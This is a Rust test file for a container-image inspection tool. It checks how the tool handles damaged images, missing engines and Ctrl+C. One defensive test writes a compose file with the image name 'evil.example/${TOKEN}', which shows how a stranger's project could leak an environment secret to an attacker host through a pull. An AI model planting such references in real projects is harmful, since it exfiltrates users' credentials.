//! Images that cannot be read, signals, and many images.

#[cfg(unix)]
use std::io::{BufRead, BufReader};
#[cfg(unix)]
use std::process::{Command, Stdio};

use super::{documents, on_base, rows, saves};
#[cfg(all(unix, feature = "engine"))]
use crate::build::Format;
use crate::build::Packing;
#[cfg(all(unix, feature = "engine"))]
use crate::engines::fake::FakeEngine;
#[cfg(unix)]
use crate::user::DIVE;
use crate::user::User;

/// One damaged image of a list must neither hide the others nor pass.
#[test]
fn the_other_images_are_answered() {
    let user = User::new().writes("broken.tar", "not an image").writes("team.txt", "broken.tar\nmissing.tar\nb.tar\n");
    saves(&user, "a.tar", &on_base("a", Packing::Plain));
    saves(&user, "b.tar", &on_base("b", Packing::Plain));
    let ran =
        user.runs(&["--ci", "--summary", "sums.jsonl", "--highestLayerCount", "2", "a.tar", "--from", "team.txt"]);
    let ran = ran.ends_with(2);
    let verdicts: Vec<_> = rows(&ran.stdout).iter().map(|row| (row[0].clone(), row.last().unwrap().clone())).collect();
    let expected = [("a.tar", "broken"), ("broken.tar", "unread"), ("missing.tar", "unread"), ("b.tar", "broken")];
    assert_eq!(verdicts, expected.map(|(name, verdict)| (name.to_owned(), verdict.to_owned())));
    let ran = ran.prints(&["Unread:\n  team.txt:1: broken.tar", "  team.txt:2: missing.tar: "]);
    ran.says(&["dive: error: team.txt:1: broken.tar"]).prints(&["4 images, 2 with broken rules, 2 unread\n"]);
    assert_eq!(documents(&user.file("sums.jsonl")).len(), 2);
    let rules = user.runs(&["--ci", "--highestLayerCount", "2", "a.tar", "b.tar"]).ends_with(1);
    rules.prints(&["2 images, 2 with broken rules\n"]);
}

/// An engine that is not there, or goes away, is a row of its images.
#[test]
fn an_engine_that_is_gone_leaves_the_files() {
    let user = User::new();
    saves(&user, "a.tar", &on_base("a", Packing::Plain));
    saves(&user, "b.tar", &on_base("b", Packing::Plain));
    let ran =
        user.runs(&["--ci", "--pull", "never", "a.tar", "docker://web:1", "podman://web:1", "b.tar"]).ends_with(2);
    let verdicts: Vec<_> = rows(&ran.stdout).iter().map(|row| row.last().unwrap().clone()).collect();
    assert_eq!(verdicts, ["kept", "unread", "unread", "kept"]);
}

/// An engine that stops in the middle of an image takes neither the images before it nor those of other sources along.
#[cfg(all(unix, feature = "engine"))]
#[test]
fn an_engine_that_stops_midway_leaves_the_others() {
    let image = |own: &str| on_base(own, Packing::Plain).archive(Format::DockerArchive);
    let images = ["one:1", "two:1", "three:1"].map(|tag| (tag, image(tag)));
    let engine = FakeEngine::that_stops(images.into(), 1);
    let user = User::new().sets("DOCKER_HOST", engine.address());
    saves(&user, "b.tar", &on_base("b", Packing::Plain));
    let arguments =
        ["--ci", "--summary", "sums.jsonl", "docker://one:1", "docker://two:1", "docker://three:1", "b.tar"];
    let ran = user.runs(&arguments).ends_with(2);
    let verdicts: Vec<_> = rows(&ran.stdout).iter().map(|row| row.last().unwrap().clone()).collect();
    assert_eq!(verdicts, ["-", "unread", "unread", "-"], "{}", ran.stdout);
    ran.prints(&[
        "Unread:\n  docker://two:1: docker: the export of \"two:1\" stopped after ",
        "\n  docker://three:1: cannot reach docker to look up \"three:1\": ",
        "\n4 images, 2 unread\n",
    ]);
    assert_eq!(documents(&user.file("sums.jsonl")).len(), 2);
}

/// A project of a stranger's pull request can put a secret of the environment into the name of an image.
#[cfg(all(unix, feature = "engine"))]
#[test]
fn images_of_a_project_are_not_pulled_unasked() {
    let engine = FakeEngine::of(Vec::new());
    let text = "services: { web: { image: \"evil.example/${TOKEN}\" } }\n";
    let user = User::new().sets("DOCKER_HOST", engine.address()).sets("TOKEN", "hunter2").writes("compose.yaml", text);
    let pulls = || engine.asked("").iter().filter(|path| path.contains("/images/create")).count();
    let ran = user.runs(&["--ci", "--compose", "compose.yaml"]).ends_with(2);
    assert!(ran.stderr.contains("docker pull") || ran.stderr.contains("--pull"), "{}", ran.stderr);
    assert_eq!(pulls(), 0);
    user.runs(&["--ci", "--pull", "missing", "--compose", "compose.yaml"]).ends_with(2);
    assert!(pulls() > 0);
}

/// Without a finished image, the summaries of an earlier run stay.
#[test]
fn no_image_leaves_an_earlier_document() {
    let user = User::new().writes("sums.jsonl", "earlier\n");
    let ran = user.runs(&["--summary", "sums.jsonl", "x.tar", "y.tar"]).ends_with(2);
    ran.prints(&["2 images, 2 unread\n"]);
    assert_eq!(std::fs::read_to_string(user.file("sums.jsonl")).unwrap(), "earlier\n");
    assert_eq!(user.sees(), ["sums.jsonl"]);
}

/// Ctrl+c after an hour: the summaries of that hour are kept, and no temporary file.
#[cfg(unix)]
#[test]
fn a_signal_keeps_the_documents_of_finished_images() {
    use std::os::unix::process::ExitStatusExt;

    let user = User::new();
    saves(&user, "a.tar", &on_base("a", Packing::Plain));
    assert!(Command::new("mkfifo").arg(user.file("pipe.tar")).status().unwrap().success());
    let mut dive = Command::new(DIVE)
        .args(["--ci", "--highestLayerCount", "9", "--summary", "sums.jsonl", "a.tar", "./pipe.tar"])
        .current_dir(user.file(""))
        .env_clear()
        .envs(user.environment())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // The second image is a pipe that nobody writes to.
    let mut lines = BufReader::new(dive.stdout.take().unwrap()).lines();
    assert!(lines.any(|line| line.unwrap().starts_with("Result:PASS")), "the first image");
    assert!(!user.file("sums.jsonl").exists());
    assert!(Command::new("kill").args(["-INT", &dive.id().to_string()]).status().unwrap().success());
    let ended = dive.wait_with_output().unwrap();
    assert_eq!(ended.status.signal(), Some(2), "{ended:?}");
    let said = String::from_utf8(ended.stderr).unwrap();
    assert!(said.contains("dive: interrupted; the document of 1 image is written\n"), "{said}");
    assert_eq!(documents(&user.file("sums.jsonl")).len(), 1);
    assert_eq!(user.sees(), ["a.tar", "pipe.tar", "sums.jsonl"]);
}
